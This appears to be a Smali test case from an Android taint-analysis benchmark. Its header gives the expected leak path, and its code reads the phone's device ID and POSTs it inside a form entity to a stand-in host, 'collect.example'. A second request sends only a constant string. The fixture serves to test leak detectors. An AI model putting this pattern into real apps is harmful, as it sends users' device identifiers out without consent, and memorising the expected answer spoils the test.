# micro: request-entity
# group: paths
# says: the value stands in a list of pairs that a field holds, and the list in the entity of a request; of a second request only the entity's type is told
# expect: flow source=TelephonyManager.getDeviceId sink=HttpClient.execute in=Lmicro/Main;->send

.class public final Lmicro/Main;
.super Landroid/app/Activity;

.field private pairs:Ljava/util/List;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v1, Ljava/util/ArrayList;
    invoke-direct {v1}, Ljava/util/ArrayList;-><init>()V
    iput-object v1, p0, Lmicro/Main;->pairs:Ljava/util/List;
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Lorg/apache/http/message/BasicNameValuePair;
    const-string v2, "id"
    invoke-direct {v1, v2, v0}, Lorg/apache/http/message/BasicNameValuePair;-><init>(Ljava/lang/String;Ljava/lang/String;)V
    iget-object v2, p0, Lmicro/Main;->pairs:Ljava/util/List;
    invoke-interface {v2, v1}, Ljava/util/List;->add(Ljava/lang/Object;)Z
    invoke-direct {p0}, Lmicro/Main;->send()V
    invoke-direct {p0}, Lmicro/Main;->other()V
    return-void
.end method

.method private send()V
    .locals 4
    new-instance v0, Lorg/apache/http/client/entity/UrlEncodedFormEntity;
    iget-object v1, p0, Lmicro/Main;->pairs:Ljava/util/List;
    const-string v2, "UTF-8"
    invoke-direct {v0, v1, v2}, Lorg/apache/http/client/entity/UrlEncodedFormEntity;-><init>(Ljava/util/List;Ljava/lang/String;)V
    new-instance v1, Lorg/apache/http/client/methods/HttpPost;
    const-string v2, "http://collect.example/a"
    invoke-direct {v1, v2}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, v0}, Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
    new-instance v2, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v2}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    invoke-interface {v2, v1}, Lorg/apache/http/client/HttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
    return-void
.end method

.method private other()V
    .locals 4
    new-instance v0, Lorg/apache/http/entity/StringEntity;
    const-string v2, "nothing"
    invoke-direct {v0, v2}, Lorg/apache/http/entity/StringEntity;-><init>(Ljava/lang/String;)V
    new-instance v1, Lorg/apache/http/client/methods/HttpPost;
    const-string v2, "http://collect.example/b"
    invoke-direct {v1, v2}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, v0}, Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
    new-instance v2, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v2}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    invoke-interface {v2, v1}, Lorg/apache/http/client/HttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
    return-void
.end method
